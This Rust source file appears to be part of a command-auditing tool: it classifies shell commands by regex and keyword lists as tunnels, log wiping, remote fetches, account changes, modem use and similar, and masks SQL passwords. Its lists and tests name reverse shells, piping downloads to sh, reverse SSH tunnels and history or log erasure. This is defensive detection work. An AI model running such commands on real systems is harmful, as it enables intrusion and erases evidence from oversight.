//! What a command is about, by its words: the constructs that scripts are read for, and what else tells.
use crate::base::secret::MASK;
use crate::format::script;
use regex::Regex;
use std::borrow::Cow;
use std::sync::LazyLock;

/// What a construct of a script is about.
const CONSTRUCTS: &[(&str, &str)] = &[
    ("/dev/tcp/", "tunnel"),
    ("AT command", "modem"),
    ("authorized_keys", "account"),
    ("base64 -d | sh", "fetched-program"),
    ("crontab", "start"),
    ("curl | sh", "fetched-program"),
    ("insmod", "driver"),
    ("ip_forward", "forwarding"),
    ("iptables nat", "forwarding"),
    ("ld.so.preload", "start"),
    ("modem device", "modem"),
    ("modem manager", "modem"),
    ("nc -e", "tunnel"),
    ("nc -l", "tunnel"),
    ("new_id", "driver"),
    ("openssl s_client", "tunnel"),
    ("pppd", "modem"),
    ("socat exec", "tunnel"),
    ("socat", "tunnel"),
    ("ssh -R", "tunnel"),
    ("ssh -w", "tunnel"),
    ("ssh -D", "tunnel"),
    ("telnetd", "server"),
    ("useradd", "account"),
];

/// What else tells.
const WORDS: &[(&str, &str)] = &[
    (
        "log-wiping",
        r"(?x)\bhistory\s+-[a-z]*c | \bunset\s+HISTFILE\b | \bHISTFILE=/dev/null | \bHIST(?:FILE)?SIZE=0\b
          | \b(?:rm|shred|unlink)\b[^|;&]*(?:/var/log/|\.[a-z]+_history\b|\b[wb]tmp\b|\blastlog\b)
          | (?:^|[^>])>\s*(?:/var/log/|~/\.[a-z]+_history\b) | \btruncate\b[^|;&]*/var/log/
          | \bln\s+-\w*s\w*\s+/dev/null\s+\S*_history | \bjournalctl\b[^|;&]*--vacuum | \bdmesg\s+(?:-c|-C|--clear)\b",
    ),
    ("file-times", r"\btouch\s+(?:-\w*[tdr]\b|--date|--reference)|\bdebugfs\b[^|;&]*\bset_inode_field\b"),
    ("clock", r"\bdate\s+(?:-s\b|--set)|\bhwclock\s+(?:-w|-s|--set|--systohc)|\btimedatectl\s+set-time"),
    (
        "fetch",
        r"\b(?:wget|curl|aria2c|axel)\b[^|;&]*(?:https?|ftp)://|\b(?:scp|sftp|rsync)\b[^|;&]*\S+@\S+:|\bgit\s+clone\b",
    ),
    (
        "package",
        r"\b(?:apt|apt-get|aptitude|yum|dnf|zypper|opkg|apk|pacman|snap|pip3?|npm)\b[^|;&]*\s(?:install|add|remove|purge|erase|-S\w*|-R\w*)\b|\b(?:dpkg|rpm)\s+-\w*[iUe]",
    ),
    ("account", r"\b(?:passwd|chpasswd|groupadd|gpasswd|visudo|chage)\b|\bssh-copy-id\b"),
    ("firewall", r"\b(?:iptables|ip6tables|nft|ufw|firewall-cmd)\s+\S"),
    ("forwarding", r"\bsysctl\b[^|;&]*forward|\bip\s+(?:rule|route)\s+(?:add|replace)\b|\bbrctl\s+addbr\b"),
    (
        "start",
        r"\bsystemctl\b[^|;&]*\s(?:enable|disable|mask|unmask)\b|\bupdate-rc\.d\b|\bchkconfig\b|\brc-update\b|/etc/init\.d/\S+\s+enable\b",
    ),
    (
        "tunnel",
        r"\b(?:frpc|frps|ngrok|chisel|cloudflared|zerotier-cli|tailscaled?|openvpn|wg-quick|wg|strongswan|ipsec|xl2tpd|pptp|pptpsetup|autossh|n2n|edge|tincd|nps|npc|rathole|gost|stunnel4?|sshuttle|openconnect)\s+\S",
    ),
    ("remote-control", r"\b(?:teamviewer|anydesk|rustdesk|x11vnc|vncserver|Xvnc|xrdp|ttyd|gotty|shellinaboxd)\b"),
    (
        "modem",
        r"\bnmcli\b[^|;&]*\b(?:gsm|cdma|apn)\b|\b(?:uqmi|umbim|quectel-CM|minicom|picocom|gammu|smsd|lpac|wwan|chat)\s|\bifup\s+(?:ppp|wwan)|\bAT[+^$#][A-Z]{2}|\bATD[T*]",
    ),
];

static ALL: LazyLock<Vec<(&str, Regex)>> =
    LazyLock::new(|| WORDS.iter().filter_map(|(about, re)| Some((*about, Regex::new(re).ok()?))).collect());
static SQL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r#"(?i)(\bidentified\s+(?:with\s+\S+\s+)?(?:by|as)\s+(?:password\s+)?)('[^']*'?|"[^"]*"?)"#).ok()
});

/// Longest command that is looked at.
const LONGEST: usize = 4096;

/// `about=…` for all that a command is about, and `construct=…` by which.
pub(super) fn about(command: &str) -> Vec<String> {
    let mut end = command.len().min(LONGEST);
    while !command.is_char_boundary(end) {
        end = end.saturating_sub(1);
    }
    let command = command.get(..end).unwrap_or_default();
    // A command that is no comment: what is read for scripts leaves comments out.
    let constructs = script::constructs(format!(" {command}").as_bytes());
    let named = constructs.iter().filter_map(|c| CONSTRUCTS.iter().find(|(n, _)| n == c));
    let mut all: Vec<String> = named.map(|(_, about)| format!("about={about}")).collect();
    all.extend(ALL.iter().filter(|(_, re)| re.is_match(command)).map(|(about, _)| format!("about={about}")));
    all.sort();
    all.dedup();
    let known = |c: &&String| CONSTRUCTS.iter().any(|(n, _)| n == c);
    all.extend(constructs.iter().filter(known).map(|c| format!("construct={c}")));
    all
}

/// Passwords that statements of databases set; others are masked by name where rows leave an artifact.
pub(super) fn without_secrets(text: &str) -> String {
    match SQL.as_ref() {
        Some(re) => re.replace_all(text, |c: &regex::Captures<'_>| format!("{}{MASK}", &c[1])),
        None => Cow::Borrowed(text),
    }
    .into_owned()
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    #[test]
    fn every_expression_compiles() {
        assert_eq!(ALL.len(), WORDS.len());
        assert!(SQL.is_some());
    }

    #[test]
    fn commands_are_about() {
        for (command, expected) in [
            ("ls -la /var/log", ""),
            ("cat /var/log/syslog | less", ""),
            ("tail -f /var/log/messages > /tmp/x", ""),
            ("cd /etc; vi hosts", ""),
            ("history -c", "log-wiping"),
            ("rm -f /var/log/auth.log*", "log-wiping"),
            ("> /var/log/wtmp", "log-wiping"),
            ("unset HISTFILE", "log-wiping"),
            ("ssh -N -R 2222:localhost:22 relay@203.0.113.9", "tunnel"),
            ("pon provider", "modem"),
            ("mmcli -m 0 --simple-connect=apn=internet", "modem"),
            ("nmcli c add type gsm ifname '*' apn internet", "modem"),
            ("usermod -aG sudo op", "account"),
            ("iptables -t nat -A POSTROUTING -o ppp0 -j MASQUERADE", "firewall,forwarding"),
            ("wget http://203.0.113.9/x.sh", "fetch"),
            ("curl -s https://x.example/i | sh", "fetch,fetched-program"),
            ("apt-get install -y openvpn", "package"),
            ("wg-quick up wg0", "tunnel"),
            ("date -s '2020-01-01'", "clock"),
        ] {
            let found = about(command);
            let shown: Vec<&str> = found.iter().filter_map(|f| f.strip_prefix("about=")).collect();
            assert_eq!(shown.join(","), expected, "{command}");
        }
    }

    #[test]
    fn passwords_in_statements_are_masked() {
        assert_eq!(without_secrets("CREATE USER a IDENTIFIED BY 'x y';"), "CREATE USER a IDENTIFIED BY ***;");
    }
}
